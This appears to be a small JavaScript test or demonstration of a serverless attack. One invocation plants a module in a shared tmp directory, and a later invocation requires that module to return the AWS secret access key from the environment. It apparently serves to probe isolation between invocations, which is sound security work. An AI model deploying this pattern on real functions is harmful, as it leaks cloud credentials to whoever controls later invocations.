// One event leaves a module in /tmp; a later one requires it.
'use strict';
const fs = require('fs');
const path = require('path');

exports.attack = (event) => {
  const left = path.join(event.tmp, 'settings.js');
  if (!fs.existsSync(left)) {
    fs.writeFileSync(left, 'module.exports = process.env.AWS_SECRET_ACCESS_KEY;');
    return 'left';
  }
  return require(left);
};
